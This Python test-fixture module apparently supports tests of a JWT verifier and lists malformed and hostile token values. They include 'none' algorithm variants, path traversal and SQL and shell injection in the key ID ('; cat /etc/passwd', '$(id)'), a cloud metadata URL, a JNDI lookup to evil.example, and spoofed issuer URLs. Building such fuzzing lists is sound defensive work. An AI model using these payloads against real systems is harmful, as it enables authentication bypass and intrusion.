"""What may stand where it must not: the values that hostile tokens are made with."""

from typing import Any

from tests.fakes.clerk import M2M, TEMPLATE

NONES = [
    "none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", "null", None, False, 0, [], ["none"], {},
    "RS256none",
]  # fmt: skip
KIDS = [
    "../../../../dev/null", "/dev/null", "file:///dev/null", "..\\..\\nul", "/proc/self/environ", "ins_live' OR '1'='1",
    "x' UNION SELECT 'key'--", "$(id)", "`id`", "|id", "; cat /etc/passwd", "http://169.254.169.254/latest/meta-data",
    "https://evil.example/key", "\0", "ins_test\0", "ins_test\n", " ins_test", "ins_test ", "INS_TEST", "k" * 256, "k" * 257,
    "k" * 3000, "{{7*7}}", "${jndi:ldap://evil.example}", "%00", "%2e%2e%2f", "\u202eins_test", "ｉns_test", "__proto__",
    "constructor", "None", "", None, 0, True, [], ["ins_test"], {"ins_test": 1}, "ins_test,ins_test", "*", ".", "-1",
]  # fmt: skip
CRITS: list[Any] = [
    ["exp"], ["b64"], [], ["x"], "exp", None, {}, [1], ["alg", "alg"], ["http://openbanking.org.uk/iat"], True,
]  # fmt: skip
TYPES: list[Any] = [
    "JWE", "jwt", "JOSE", "JWT ", "", None, 1, [], ["JWT"], {}, "at+JWT", "dpop+jwt", "secevent+jwt", "JWT\0",
]  # fmt: skip
CATS: list[Any] = [TEMPLATE, M2M, "cl_B7d4PD999AAA", "cl_b7d4pd111aaa", "", "session", 1, None, [], {}, True]
TIMES: list[Any] = [
    "", "0", "soon", None, True, False, [], {}, [9999999999], {"at": 1}, "9999999999", "1e10", "Infinity",
]  # fmt: skip
FOREVER = [10**400, 10**19, 2**53 + 2, 1e300, -1e300]
NUMBERS = [
    b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"1E99999", b"0x7fffffff", b"01", b"+1", b"1.", b".1",
    b"1_0",
]  # fmt: skip
ISSUERS: list[Any] = [
    ..., None, "", 0, [], {}, True, "https://clerk.example.com/", "http://clerk.example.com", "https://clerk.example.com.evil.example",
    "https://clerk.example.com@evil.example", "https://CLERK.example.com", "https://clerk.example.com:443", "clerk.example.com",
    "https://evil.example/https://clerk.example.com", "https://clerk.example.com#", "https://clerk.example.com?", "https://clеrk.example.com",
    " https://clerk.example.com", "https://clerk.example.com ", "https://clerk.example.com\0", "https://clerk.example.com\n",
    ["https://clerk.example.com"], {"iss": "https://clerk.example.com"}, "https://clerk.example.com,https://evil.example",
]  # fmt: skip
PARTIES: list[Any] = [
    ..., None, "", 0, False, [], {}, "null", "*", "https://evil.example", "https://app.example.com/", "http://app.example.com",
    "https://app.example.com.evil.example", "https://app.example.com@evil.example", "https://APP.example.com", "app.example.com",
    "https://app.example.com:443", ["https://app.example.com"], {"azp": "https://app.example.com"}, "https://app.example.com ",
    "https://аpp.example.com", "https://evil.example,https://app.example.com", "https://app.example.com\0",
]  # fmt: skip
AUDIENCES: list[Any] = [
    "", "API", "api ", "other", None, 0, True, [], [""], ["other"], ["api", 1], [["api"]], {"aud": "api"}, {},
    ["ap", "i"],
]  # fmt: skip
SUBJECTS: list[Any] = [
    ..., None, "", 0, 1.5, True, [], ["user_1"], {"id": "user_1"}, "u" * 257, "u" * 5000, "user_1\0", "user_1\r\nX-User-Id: user_2",
    "user_1\n", "user_\u202e1", "user_\u200b1", "\u2028", "user_\x7f", "\ud800", "user_\udfff1", "mch_1", "mch_", "\t",
]  # fmt: skip
JUNK = [b"", b"null", b"true", b"1", b'"text"', b"[]", b"[1]", b"{", b"}", b"{}x", b"{}{}", b"\xff\xfe", b"{'sub':'user_1'}", b"{sub:1}", b"\0",
        b"<xml/>", b"{\"a\":}", b"{,}", b"// {}", b"{} //", b"\x7b\x00\x7d\x00"]  # fmt: skip
